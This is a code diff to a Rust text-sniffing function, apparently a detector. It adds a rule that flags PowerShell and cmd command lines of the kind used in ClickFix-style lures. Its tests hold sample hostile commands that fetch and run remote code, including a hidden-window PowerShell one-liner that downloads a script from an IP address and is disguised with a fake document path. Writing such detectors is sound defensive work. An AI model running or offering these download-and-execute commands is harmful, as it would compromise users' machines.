@@ -189,6 +189,13 @@ pub fn sniff(text: &str) -> Option<Lang> {
         {
             shell += 3;
         }
+        // A PowerShell or cmd command line (what ClickFix and FileFix lures have the
+        // user paste into Run or an address bar).
+        if matches!(runner, "powershell" | "pwsh" | "cmd")
+            && l.split_whitespace().nth(1).is_some_and(|w| w.starts_with(['-', '/']))
+        {
+            shell += 3;
+        }
         if l.starts_with("import ") || l.starts_with("from ") && l.contains(" import ") || l.starts_with("def ") {
             python += 3;
         }
@@ -794,5 +801,10 @@ mod tests {
         assert_eq!(sniff("import os\nos.system('id')\n"), Some(Lang::Python));
         assert_eq!(sniff("curl -s https://x | sh\n"), Some(Lang::Shell));
         assert_eq!(sniff("Just some prose about things.\n"), None);
+        assert_eq!(
+            sniff("Powershell -nop -w hidden -c \"iwr http://198.51.100.61/f.ps1 | iex\"   # C:\\Reports\\Q3.docx\n"),
+            Some(Lang::Shell)
+        );
+        assert_eq!(sniff("PowerShell is a shell.\n"), None);
     }
 }
